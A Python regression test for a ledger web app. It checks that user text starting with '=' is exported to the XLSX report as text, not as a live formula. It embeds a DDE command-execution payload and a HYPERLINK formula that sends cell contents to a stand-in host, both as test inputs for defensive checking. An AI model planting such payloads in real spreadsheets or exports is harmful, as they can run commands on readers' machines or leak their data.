"""Text a user wrote that begins with "=" is text in every workbook the ledger hands out, never a formula.

Found by bench/hostile_campaign.py: openpyxl stores any string that begins with "=" as a formula, so a recorded
topic "=cmd|' /C calc'!A0" (DDE) or a void reason "=HYPERLINK(…)" reached the report's XLSX (/report/download)
as a formula that the reader's spreadsheet would evaluate."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
from webkit import Web

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def _record(ref: str, topic: str) -> dict[str, Any]:
    data = {"form": "central_group", "topic": topic, "attendees": 12}
    return {"unit": "north", "kind": "study_session", "ref": ref, "date": "2025-03-01", "data": data}


def _cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_formulas_written_as_text_stay_text_in_the_report_workbook(web: Web) -> None:
    rec = web.client("rec-north")
    assert rec.post("/api/records", json=_record("F-1", DDE)).status_code == 201
    assert rec.post("/api/records", json=_record("F-2", "学习宪法")).status_code == 201
    r = rec.post("/api/voids", json={"unit": "north", "ref": "F-2", "reason": LINK})
    assert r.status_code == 201, r.text
    r = web.client("admin").post("/api/units", json={"unit": "north", "data": {"name": "=1+1", "parent": "city"}})
    assert r.status_code == 201, r.text
    for who, unit in (("rec-north", "north"), ("admin", "city")):
        r = web.client(who).get("/report/download", params={"unit": unit, "year": "2025", "format": "xlsx"})
        assert r.status_code == 200, r.text[:300]
        cells = _cells(r.content)
        formulas = [f"{c.parent.title}!{c.coordinate}: {c.value}" for c in cells if c.data_type == "f"]
        assert formulas == [], formulas
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert DDE in texts and LINK in texts, unit  # kept word for word, as text
